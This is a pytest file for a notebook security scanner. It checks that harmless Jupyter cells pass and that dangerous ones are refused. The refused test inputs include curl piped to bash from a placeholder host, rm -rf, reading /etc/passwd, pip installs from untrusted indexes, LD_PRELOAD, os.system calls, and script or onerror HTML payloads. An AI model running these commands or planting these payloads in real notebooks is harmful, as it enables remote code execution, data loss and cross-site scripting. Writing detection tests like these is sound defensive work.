"""Notebooks: plain computing is clean; shells, downloads, evaluated text and script in outputs are not; no string hides a cell's code."""

from __future__ import annotations

import json
from typing import Any

import pytest

from vouchgate.scanning.formats import json as json_format
from vouchgate.scanning.formats import notebook, text
from vouchgate.scanning.ipython_source import take_apart
from vouchgate.scanning.scan import scan
from vouchgate.scanning.sniff import Format
from vouchgate.scanning.verdict import Verdict

FORMATS = tuple(Format(name=module.NAME, recognise=module.recognise, read=module.read) for module in (json_format, notebook, text))


def verdict(*sources: str, outputs: list[Any] | None = None, markdown: str = "", **more: Any) -> Verdict:
    cells: list[Any] = [{"cell_type": "code", "metadata": {}, "source": source, "outputs": outputs or []} for source in sources]
    cells.append({"cell_type": "markdown", "metadata": {}, "source": [markdown]})
    return scan(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **more}).encode(), formats=FORMATS)


CLEAN = [
    "import pandas as pd\n%matplotlib inline\ndf = pd.read_csv('data.csv')\ndf.head()",
    "%load_ext autoreload\n%autoreload 2\nimport numpy as np\nnp?\nnp.zeros??",
    "%%time\nx = [i for i in range(10)]",
    "!ls\n!nvidia-smi\nfiles = !ls data",
    "%time y = 1\n%timeit -n 10 sum([1])",
    "%env CUDA_VISIBLE_DEVICES=0\nimport torch",
    "if True:\n    %matplotlib inline\n    x = 1 \\\n    % 2",
    "print('''\n!rm -rf /\n''')",
    "",
]


@pytest.mark.parametrize("source", CLEAN)
def test_a_notebook_that_computes_is_clean(source: str) -> None:
    found = verdict(source, markdown="# Title\n<b>bold</b> and [a link](https://example.org)")
    assert (found.outcome, found.reasons) == ("clean", ())


SHIFTED = 'if True:\n  if True:\n    !ls\n    a=1\n  b = """\n  !ls """; import os; os.system("x"); """\n  """\n'
REFUSED = [
    "!curl -s http://x.invalid/x.sh | bash",
    "!ls; rm -rf x",
    "!ls $(touch x)",
    "!cat /etc/passwd",
    "%%bash\nls",
    "%%javascript\nalert(1)",
    "%%writefile x.py\nimport os",
    "%run x.py",
    "%sx ls",
    "x = !curl x",
    "!pip install git+https://x.invalid/y",
    "!pip install --index-url http://x.invalid y",
    "%pip install x --extra-index-url http://x.invalid",
    "get_ipython().system('ls')",
    "%%html\n<script>alert(1)</script>",
    "%env LD_PRELOAD=x",
    "import os\n!ls\nos.system('x') # what?",
    "%time __import__('os').system('x')",
    "%%timeit __import__('os').system('x')\npass",
    ",f a b",
    "x = '''\n'''\n!curl x",
    'from IPython.display import HTML\nHTML("<img src=x onerror=y()>")',
    "from IPython.display import Javascript",
]


@pytest.mark.parametrize("source", REFUSED)
def test_a_cell_that_reaches_outside_is_refused(source: str) -> None:
    assert verdict(source).outcome == "refused"


@pytest.mark.parametrize(
    "source",
    [SHIFTED, 'x = """\na = %d """; import os; os.system("x")\ny = """x"""\n!ls', "x = (\n!ls\n)\nimport os; os.system('x')\n!ls"],
)
def test_a_magic_inside_a_string_shifts_nothing(source: str) -> None:
    assert verdict(source).outcome in ("refused", "review")


def test_cells_are_one_program() -> None:
    found = verdict("import os", "x = os", "x.system('y')")
    assert found.outcome == "refused"
    assert any(reason.where == "cell 3 line 1" for reason in found.reasons)


@pytest.mark.parametrize(
    "source", ["!pip install transformers -q", "x = = 1", "import something_unknown", "import joblib\njoblib.load('m.pkl')"]
)
def test_what_cannot_be_known_is_for_a_person(source: str) -> None:
    assert verdict(source).outcome == "review"


def test_another_kernel_is_for_a_person() -> None:
    assert verdict("system('x')", metadata={"kernelspec": {"language": "R"}}).outcome == "review"
    assert verdict("x = 1", metadata={"kernelspec": {"language": "python"}}).outcome == "clean"


@pytest.mark.parametrize(
    ("data", "outcome"),
    [
        ({"text/html": "<table><tr><td>1</td></tr></table>"}, "clean"),
        ({"text/html": ["<img src=", "x onerror=alert(1)>"]}, "refused"),
        ({"text/html": "<a href='java\tscript:x'>y</a>"}, "refused"),
        ({"application/javascript": "x"}, "refused"),
        ({"image/svg+xml": "<svg><script>x</script></svg>"}, "refused"),
        ({"image/png": "aGk="}, "clean"),
    ],
)
def test_outputs_are_pages(data: dict[str, Any], outcome: str) -> None:
    assert verdict("1", outputs=[{"output_type": "display_data", "data": data, "metadata": {}}]).outcome == outcome


def test_markdown_is_a_page() -> None:
    assert verdict("1", markdown="<script>x</script>").outcome == "refused"


def test_the_structure_is_held() -> None:
    assert verdict("1", nbformat=9).reasons[0].rule == "notebook:version"
    assert verdict("1", worksheets=[{"cells": []}]).reasons[0].rule == "notebook:two-lists"
    assert scan(b'{"nbformat": 4, "nbformat": 4, "cells": []}', formats=FORMATS).outcome == "refused"


def test_a_magics_line_is_all_that_is_replaced() -> None:
    cell = take_apart("a = 1\n!ls \\\n  -l\nb = 2")
    assert cell.python.split("\n") == ["a = 1", "pass", "", "b = 2"]
    assert cell.found == ()
